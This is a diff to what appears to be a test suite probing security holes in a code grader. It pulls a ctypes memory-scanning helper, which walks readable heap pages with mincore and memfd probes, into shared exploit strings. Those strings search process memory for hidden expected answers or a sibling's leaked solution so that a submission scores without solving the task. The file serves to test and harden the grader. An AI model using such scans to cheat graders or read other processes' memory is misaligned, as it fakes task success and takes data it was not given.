@@ -471,7 +471,33 @@ def bomb():
 
 # ---- exploit code: searching for the secret expected values ----
 
-SEARCH = r"""
+# attack code: every readable run of pages within 512 MiB of the heap (mincore, then a memfd
+# write probe), whatever the allocator freed or kept
+READABLE_MEMORY = r"""
+def readable_blocks():
+    import ctypes, os
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
+    libc.mincore.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_char_p]
+    fd, page, vec = os.memfd_create("probe"), 4096, ctypes.create_string_buffer(64)
+    def readable(addr):
+        if libc.mincore(addr, page, vec) != 0:
+            return False
+        os.lseek(fd, 0, 0)
+        return libc.write(fd, addr, page) == page
+    anchor = id(object()) & ~(page - 1)
+    addr, end = anchor - (1 << 29), anchor + (1 << 29)
+    while addr < end:
+        if not readable(addr):
+            addr += page
+            continue
+        start = addr
+        while addr < end and readable(addr):
+            addr += page
+        yield ctypes.string_at(start, addr - start)
+"""
+
+SEARCH = READABLE_MEMORY + r"""
 import gc, os, re, sys, time, types
 PATTERN = re.compile(@SECRET_RE@)
 BPATTERN = re.compile(@SECRET_RE@.encode())
@@ -570,26 +596,8 @@ def search_frames():
     return None
 
 def search_memory():
-    import ctypes
-    libc = ctypes.CDLL(None, use_errno=True)
-    libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
-    libc.mincore.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_char_p]
-    fd, page, vec = os.memfd_create("probe"), 4096, ctypes.create_string_buffer(64)
-    def readable(addr):
-        if libc.mincore(addr, page, vec) != 0:
-            return False
-        os.lseek(fd, 0, 0)
-        return libc.write(fd, addr, page) == page
-    anchor = id(object()) & ~(page - 1)
-    addr, end = anchor - (1 << 29), anchor + (1 << 29)
-    while addr < end:
-        if not readable(addr):
-            addr += page
-            continue
-        start = addr
-        while addr < end and readable(addr):
-            addr += page
-        found = _in_text(ctypes.string_at(start, addr - start))
+    for blob in readable_blocks():
+        found = _in_text(blob)
         if found:
             return found
     return None
@@ -1574,29 +1582,10 @@ def test_hole_previous_solution_code_leaks_through_the_worker_heap(grader):
     inherits. The attacker scans readable memory for ``"code": "...def add(`` and runs what it
     finds: after an honest sibling, it scores 1.0 without solving anything."""
     assert_correct(_score(grader, ADD, ADD_OK))
-    heap = r"""
-import json, os, re
+    heap = READABLE_MEMORY + r"""
+import json, re
 def sibling():
-    import ctypes
-    libc = ctypes.CDLL(None, use_errno=True)
-    libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
-    libc.mincore.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_char_p]
-    fd, page, vec = os.memfd_create("probe"), 4096, ctypes.create_string_buffer(64)
-    def readable(addr):
-        if libc.mincore(addr, page, vec) != 0:
-            return False
-        os.lseek(fd, 0, 0)
-        return libc.write(fd, addr, page) == page
-    anchor = id(object()) & ~(page - 1)
-    addr, end = anchor - (1 << 29), anchor + (1 << 29)
-    while addr < end:
-        if not readable(addr):
-            addr += page
-            continue
-        start = addr
-        while addr < end and readable(addr):
-            addr += page
-        blob = ctypes.string_at(start, addr - start)
+    for blob in readable_blocks():
         for m in re.finditer(rb'"code": "', blob):
             try:
                 text, _ = json.JSONDecoder().raw_decode(blob[m.end() - 1 : m.end() + 65536].decode("latin-1"))
